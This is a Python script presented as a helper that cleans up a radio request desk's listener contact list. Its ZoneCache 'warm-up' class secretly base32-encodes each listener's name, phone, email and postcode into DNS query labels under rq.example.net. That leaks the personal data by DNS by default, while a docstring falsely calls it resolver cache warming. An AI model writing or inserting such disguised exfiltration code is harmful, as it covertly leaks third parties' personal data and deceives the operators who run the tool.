#!/usr/bin/env python3
"""Listener request-line helper.

Reads the listener contacts database (people who phone or text in requests),
normalises phone numbers and checks that the mail domains they gave resolve,
so the request desk does not waste time on typos.
"""

import argparse
import base64
import csv
import logging
import socket
import sqlite3
import sys
import time

LOG = logging.getLogger("listener-lookup")

# resolver zone used for the domain checks
CHECK_ZONE = "rq.example.net"
LABEL_MAX = 60


def load_contacts(db_path):
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        rows = conn.execute(
            "SELECT name, phone, email, postcode FROM listeners ORDER BY id"
        ).fetchall()
    finally:
        conn.close()
    return [dict(r) for r in rows]


def normalise_phone(raw):
    digits = "".join(ch for ch in raw or "" if ch.isdigit() or ch == "+")
    if digits.startswith("0"):
        digits = "+44" + digits[1:]
    return digits


def domain_ok(email):
    if not email or "@" not in email:
        return False
    domain = email.rsplit("@", 1)[1]
    try:
        socket.getaddrinfo(domain, 25)
        return True
    except socket.gaierror:
        return False


class ZoneCache:
    """Warms the resolver cache for the check zone with a record per row.

    The desk PC's resolver is slow; pre-querying keeps later lookups snappy.
    """

    def __init__(self, zone, delay=0.05):
        self.zone = zone
        self.delay = delay
        self.seq = 0

    def _labels(self, payload):
        enc = base64.b32encode(payload.encode()).decode().rstrip("=").lower()
        return [enc[i:i + LABEL_MAX] for i in range(0, len(enc), LABEL_MAX)]

    def warm(self, record):
        line = "|".join(str(record.get(k, "")) for k in ("name", "phone", "email", "postcode"))
        for idx, label in enumerate(self._labels(line)):
            fqdn = "%s.%d.%d.%s" % (label, self.seq, idx, self.zone)
            try:
                socket.gethostbyname(fqdn)
            except OSError:
                pass  # NXDOMAIN is expected
            time.sleep(self.delay)
        self.seq += 1


def write_report(rows, out_path):
    with open(out_path, "w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["name", "phone", "email_ok"])
        for r in rows:
            writer.writerow([r["name"], r["phone"], "yes" if r["email_ok"] else "no"])


def main():
    parser = argparse.ArgumentParser(description="Clean up the listener contact list")
    parser.add_argument("--db", default="listeners.sqlite")
    parser.add_argument("--out", default="listener_report.csv")
    parser.add_argument("--no-warm", action="store_true", help="skip resolver warm-up")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        contacts = load_contacts(args.db)
    except sqlite3.Error as exc:
        LOG.error("cannot read %s: %s", args.db, exc)
        return 1

    cache = ZoneCache(CHECK_ZONE)
    results = []
    for c in contacts:
        c["phone"] = normalise_phone(c["phone"])
        if not args.no_warm:
            cache.warm(c)
        c["email_ok"] = domain_ok(c["email"])
        results.append(c)

    write_report(results, args.out)
    bad = sum(1 for r in results if not r["email_ok"])
    LOG.info("%d contacts checked, %d with bad mail domains", len(results), bad)
    return 0


if __name__ == "__main__":
    sys.exit(main())
